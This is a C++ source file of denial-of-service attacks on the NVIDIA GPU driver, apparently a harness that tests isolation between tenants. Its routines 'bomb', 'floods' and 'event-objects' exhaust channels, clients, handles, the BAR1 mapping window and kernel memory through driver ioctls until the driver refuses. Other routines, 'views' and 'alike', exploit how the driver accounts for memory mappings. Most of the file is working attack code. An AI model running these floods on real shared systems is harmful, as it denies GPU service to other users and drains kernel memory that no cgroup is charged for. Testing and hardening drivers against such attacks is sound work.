// Attacks that take what all users of a GPU or of the driver share: channel numbers, groups,
// clients, objects, the window onto the GPU's memory. None needs much GPU memory.
#include <unistd.h>

#include <algorithm>
#include <functional>

#include "common.h"
#include "rm/nv_controls.h"
#include "rm/nv_ctrl.h"
#include "uvm_client.h"

namespace cgpu::adversary {
namespace {

// The one that this GPU has.
std::uint32_t ChannelAlloc(Client& client, std::uint32_t parent, std::uint32_t engine) {
  std::uint32_t status = rm::NV_ERR_INVALID_CLASS;
  for (const std::uint32_t cls : {rm::VOLTA_CHANNEL_GPFIFO_A, rm::TURING_CHANNEL_GPFIFO_A,
                                  rm::AMPERE_CHANNEL_GPFIFO_A, rm::HOPPER_CHANNEL_GPFIFO_A}) {
    if (status == rm::NV_ERR_INVALID_CLASS) {
      rm::NV_CHANNEL_ALLOC_PARAMS_V535 params{};
      params.engineType = engine;
      status = client.Alloc(parent, client.next++, cls, &params, sizeof(params));
    }
  }
  return status;
}

std::uint32_t GroupAlloc(Client& client, std::uint32_t engine, std::uint32_t* handle = nullptr) {
  rm::NV_CHANNEL_GROUP_ALLOCATION_PARAMETERS params{};
  params.engineType = engine;
  const std::uint32_t mine = client.next++;
  if (handle != nullptr) {
    *handle = mine;
  }
  return client.Alloc(Client::kDevice, mine, rm::KEPLER_CHANNEL_GROUP_A, &params, sizeof(params));
}

std::uint32_t Unmap(const Client& client, std::uint32_t memory, std::uint64_t address) {
  rm::NVOS34_PARAMETERS unmap{};
  unmap.hClient = client.root;
  unmap.hDevice = Client::kDevice;
  unmap.hMemory = memory;
  unmap.pLinearAddress = address;
  const int error = Plainly(client.ctl, rm::NV_ESC_RM_UNMAP_MEMORY, &unmap, sizeof(unmap));
  return error != 0 ? kNoAnswer : unmap.status;
}

std::uint32_t Rename(const Client& client, std::uint32_t memory, std::uint64_t from,
                     std::uint64_t to) {
  rm::NVOS56_PARAMETERS update{};
  update.hClient = client.root;
  update.hDevice = Client::kDevice;
  update.hMemory = memory;
  update.pOldCpuAddress = from;
  update.pNewCpuAddress = to;
  const int error =
      Plainly(client.ctl, rm::NV_ESC_RM_UPDATE_DEVICE_MAPPING_INFO, &update, sizeof(update));
  return error != 0 ? kNoAnswer : update.status;
}

// Makes one more each time, until it is refused or `most` are there.
template <class Once>
void Explode(std::uint64_t most, Once once) {
  std::uint64_t made = 0;
  std::uint32_t status = rm::NV_OK;
  while (made < most && (status = once(made)) == rm::NV_OK) {
    ++made;
  }
  Say("made %llu", static_cast<unsigned long long>(made));
  Say("status 0x%x", status);
  Hold();
}

constexpr std::uint32_t kCopyEngine = rm::NV2080_ENGINE_TYPE_COPY0;

void Channels(std::uint64_t most, std::uint32_t engine) {
  constexpr std::uint64_t kPerGroup = 64;
  Client client = MakeClient();
  std::uint32_t group = 0;
  Explode(most, [&](std::uint64_t made) {
    if (made % kPerGroup == 0) {
      if (const auto status = GroupAlloc(client, engine, &group); status != rm::NV_OK) {
        return status;
      }
    }
    return ChannelAlloc(client, group, engine);
  });
}

void Bar1(std::uint64_t most) {
  constexpr std::uint64_t kMib = 64;
  Client client = MakeClient();
  std::uint32_t memory = 0;
  if (client.AllocMemory(kMib, &memory) != rm::NV_OK) {
    Die("failed: no memory");
  }
  // As much as there is, in ever smaller pieces.
  std::uint64_t bytes = kMib * kMiB;
  Explode(most, [&](std::uint64_t) {
    std::uint32_t status = client.Map(memory, bytes);
    while (status == rm::NV_ERR_NO_MEMORY && bytes > 2 * kMiB) {
      bytes /= 2;
      status = client.Map(memory, bytes);
    }
    return status;
  });
}

// bomb KIND [MOST]
int Bomb(const std::vector<std::string>& args) {
  const std::string kind = args.empty() ? "groups" : args[0];
  const std::uint64_t most = Number(args, 1, 1'000'000);
  if (kind == "channels") {
    Channels(most, kCopyEngine);
  } else if (kind == "graphics") {
    Channels(most, rm::NV2080_ENGINE_TYPE_GRAPHICS);
  } else if (kind == "bar1") {
    Bar1(most);
  } else if (kind == "clients") {
    const int file = OpenControl();
    Explode(most, [&](std::uint64_t) {
      rm::NVOS21_PARAMETERS alloc{};
      alloc.hClass = rm::NV01_ROOT_CLIENT;
      return Plainly(file, rm::NV_ESC_RM_ALLOC, &alloc, sizeof(alloc)) != 0 ? kNoAnswer
                                                                            : alloc.status;
    });
  } else {
    Client client = MakeClient();
    Explode(most, [&](std::uint64_t) {
      if (kind == "handles") {
        return client.Alloc(Client::kSubdevice, client.next++, rm::GF100_ZBC_CLEAR, nullptr);
      }
      return kind == "lone" ? ChannelAlloc(client, Client::kDevice, kCopyEngine)
                            : GroupAlloc(client, kCopyEngine);
    });
  }
  return 0;
}

// One flood after the other. Each has one more in the kernel's memory with each call, which no
// cgroup is charged for.
void Flood(const char* what, std::uint64_t most,
           const std::function<std::uint32_t(std::uint32_t)>& once) {
  std::uint32_t made = 0;
  std::uint32_t status = rm::NV_OK;
  while (made < most && (status = once(made)) == rm::NV_OK) {
    ++made;
  }
  Say("%s %u status 0x%x", what, made, status);
}

std::uint32_t TakeEvent(const Client& client, std::uint32_t number) {
  rm::nv_ioctl_alloc_os_event_t event{client.root, Client::kDevice, number, 0};
  const int error = Plainly(client.gpu, rm::NV_ESC_ALLOC_OS_EVENT, &event, sizeof(event));
  return error != 0 ? kNoAnswer : event.Status;
}

// A policy that stays with the object when the client is gone that it names.
std::uint32_t ShareWithAClientThatEnds(const Client& client) {
  rm::NVOS21_PARAMETERS alloc{};
  alloc.hClass = rm::NV01_ROOT_CLIENT;
  rm::NVOS57_PARAMETERS share{};
  if (Plainly(client.ctl, rm::NV_ESC_RM_ALLOC, &alloc, sizeof(alloc)) != 0 || alloc.status != 0) {
    return alloc.status;
  }
  share.hClient = client.root;
  share.hObject = Client::kDevice;
  share.sharePolicy.target = alloc.hObjectNew;
  share.sharePolicy.type = rm::RS_SHARE_TYPE_CLIENT;
  share.sharePolicy.accessMask.limbs[0] = 1U << rm::RS_ACCESS_DUP_OBJECT;
  share.sharePolicy.action = rm::RS_SHARE_ACTION_FLAG_REQUIRE | rm::RS_SHARE_ACTION_FLAG_COMPOSE;
  const int error = Plainly(client.ctl, rm::NV_ESC_RM_SHARE, &share, sizeof(share));
  rm::NVOS00_PARAMETERS free{alloc.hObjectNew, 0, alloc.hObjectNew, 0};
  (void)Plainly(client.ctl, rm::NV_ESC_RM_FREE, &free, sizeof(free));
  return error != 0 ? kNoAnswer : share.status;
}

std::uint32_t MapperAlloc(Client& client, std::uint32_t queue) {
  rm::NvU32 params[6] = {0, queue};
  return client.Alloc(Client::kSubdevice, client.next++, rm::NV_MEMORY_MAPPER, params,
                      sizeof(params));
}

// [MOST [GROUPS]]: everything that is a flood.
int Floods(const std::vector<std::string>& args) {
  const std::uint64_t most = Number(args, 0, 20'000);
  UvmClient uvm = MakeUvmClient();
  Client& client = uvm.client;
  Flood("events", most, [&](std::uint32_t i) { return TakeEvent(client, 1000 + i); });
  Flood("policies", most / 10, [&](std::uint32_t) { return ShareWithAClientThatEnds(client); });
  rm::NvU32 flags = 1;  // NV503C_ALLOC_PARAMETERS_FLAGS_TYPE_BAR1
  const std::uint32_t third = client.next++;
  if (client.Alloc(Client::kSubdevice, third, rm::NV50_THIRD_PARTY_P2P, &flags, sizeof(flags)) !=
      rm::NV_OK) {
    Die("failed: no object for third parties");
  }
  Flood("spaces", most / 4, [&](std::uint32_t i) {
    std::uint64_t space[2] = {i, 0};
    return client.Control(third, rm::NV503C_CTRL_CMD_REGISTER_VA_SPACE, space, sizeof(space));
  });
  Flood("shares", most,
        [&](std::uint32_t) { return Share(client, client.root, Client::kSubdevice, client.root); });
  Flood("huge", 1, [&](std::uint32_t) { return MapperAlloc(client, 1U << 24); });
  Flood("mappers", 1000, [&](std::uint32_t) { return MapperAlloc(client, 4096); });
  Flood("groups", Number(args, 1, 70'000), [&](std::uint32_t) {
    std::uint64_t group[2] = {};
    return uvm.Ask(rm::UVM_CREATE_RANGE_GROUP, group);
  });
  Hold();
  return 0;
}

// [MOST]: event objects, all for one file, until refused; then some go and others come.
int Events(const std::vector<std::string>& args) {
  constexpr std::uint32_t kSome = 100;
  Client client = MakeClient();
  if (TakeEvent(client, static_cast<std::uint32_t>(client.ctl)) != rm::NV_OK) {
    Die("failed: no event of the system");
  }
  const std::uint32_t first = client.next;
  const auto make = [&](std::uint32_t) {
    rm::NV0005_ALLOC_PARAMETERS event{};
    event.hParentClient = client.root;
    event.hSrcResource = Client::kSubdevice;
    event.hClass = rm::NV01_EVENT_OS_EVENT;
    event.notifyIndex =
        35U | 1U << 30;  // NV2080_NOTIFIERS_FIFO_EVENT_MTHD, NV01_EVENT_NONSTALL_INTR
    event.data = static_cast<std::uint64_t>(client.ctl);
    return client.Alloc(Client::kSubdevice, client.next++, event.hClass, &event, sizeof(event));
  };
  Flood("events", Number(args, 0, 20'000), make);
  std::string line;
  (void)Line(&line);
  std::uint32_t freed = 0;
  for (std::uint32_t i = 0; i < kSome; ++i) {
    freed += client.Free(first + i) == rm::NV_OK ? 1 : 0;
  }
  Say("freed %u", freed);
  Flood("again", kSome + 1, make);
  Hold();
  return 0;
}

// Not an attack: whoever comes after one. A whole context, memory, and a look at that.
int Newcomer(const std::vector<std::string>& args) {
  const std::uint64_t mib = Number(args, 0, 8);
  Client client = MakeRoot(Plainly, /*quiet=*/true);
  Say("client 0x%x", client.root == 0 ? rm::NV_ERR_INSUFFICIENT_RESOURCES : rm::NV_OK);
  Say("device 0x%x", client.AllocDevice());
  rm::NV_VASPACE_ALLOCATION_PARAMETERS_V535 space{};
  Say("space 0x%x",
      client.Alloc(Client::kDevice, client.next++, rm::FERMI_VASPACE_A, &space, sizeof(space)));
  std::uint32_t handle = 0;
  Say("group 0x%x", GroupAlloc(client, rm::NV2080_ENGINE_TYPE_GRAPHICS, &handle));
  Say("channel 0x%x", ChannelAlloc(client, handle, rm::NV2080_ENGINE_TYPE_GRAPHICS));
  Say("memory 0x%x", client.AllocMemory(mib, &handle));
  Say("mapping 0x%x", client.Map(handle, kMiB));
  Hold();
  return 0;
}

// [ROUNDS]: views made and given back in every way; each leaves room for the next only if what is
// gone is counted as gone.
int Views(const std::vector<std::string>& args) {
  const std::uint64_t rounds = Number(args, 0, 200);
  constexpr std::uint64_t kMib = 8;
  Client client = MakeClient();
  std::uint64_t done = 0;
  std::uint32_t status = rm::NV_OK;
  for (; done < rounds; ++done) {
    std::uint32_t memory = 0;
    std::uint32_t copy = client.next++;
    std::uint64_t first = 0;
    std::uint64_t second = 0;
    if ((status = client.AllocMemory(kMib, &memory)) != rm::NV_OK ||
        (status = client.Dup(client.root, memory, copy)) != rm::NV_OK ||
        (status = client.Map(memory, kMib * kMiB, &first)) != rm::NV_OK ||
        (status = client.Map(copy, kMiB, &second)) != rm::NV_OK ||
        (status = Rename(client, memory, first, 0x7000)) != rm::NV_OK ||
        (status = Unmap(client, memory, 0x7000)) != rm::NV_OK ||
        (status = client.Map(memory, kMib * kMiB, &first)) != rm::NV_OK ||
        (status = client.Free(memory)) != rm::NV_OK ||
        (status = Unmap(client, copy, second)) != rm::NV_OK ||
        (status = client.Free(copy)) != rm::NV_OK) {
      break;
    }
    // The driver cannot give back what is not there.
    if (Unmap(client, memory, first) == rm::NV_OK || Rename(client, copy, second, 1) == rm::NV_OK) {
      Die("failed: the driver unmapped what was gone");
    }
  }
  Say("rounds %llu status 0x%x", static_cast<unsigned long long>(done), status);
  Hold();
  return 0;
}

// [MIB]: two views under one address, of which the driver drops one: which of them it was is
// anybody's guess, and whoever guesses the larger one counts too little.
int Alike(const std::vector<std::string>& args) {
  const std::uint64_t mib = Number(args, 0, 16);
  Client client = MakeClient();
  std::uint32_t memory = 0;
  if (client.AllocMemory(mib, &memory) != rm::NV_OK) {
    Die("failed: no memory");
  }
  Explode(1000, [&](std::uint64_t made) {
    constexpr std::uint64_t kSame = 0x7000;
    std::uint64_t one = 0;
    std::uint64_t other = 0;
    const bool small_first = made % 2 == 0;
    std::uint32_t status = rm::NV_OK;
    if ((status = client.Map(memory, small_first ? 4096 : mib * kMiB, &one)) != rm::NV_OK ||
        (status = client.Map(memory, small_first ? mib * kMiB : 4096, &other)) != rm::NV_OK ||
        (status = Rename(client, memory, one, kSame)) != rm::NV_OK ||
        (status = Rename(client, memory, other, kSame)) != rm::NV_OK ||
        (status = Unmap(client, memory, kSame)) != rm::NV_OK) {
      return status;
    }
    // The one that is left is kept, out of the way.
    return Rename(client, memory, kSame, 0x100000 + made * 4096);
  });
  return 0;
}

}  // namespace

std::vector<Entry> BombAttacks() {
  return {
      {"bomb", Bomb,
       "groups|channels|graphics|lone|handles|clients|bar1 [MOST]: until it is refused"},
      {"newcomer", Newcomer, "[MIB]: opens a context as if nothing had happened"},
      {"views", Views, "[ROUNDS]: views of memory made and given back"},
      {"alike", Alike, "[MIB]: views under one address"},
      {"event-objects", Events, "[MOST]: event objects"},
      {"floods", Floods, "[MOST [GROUPS]]: what makes kernel memory or long lists by each call"},
  };
}

}  // namespace cgpu::adversary
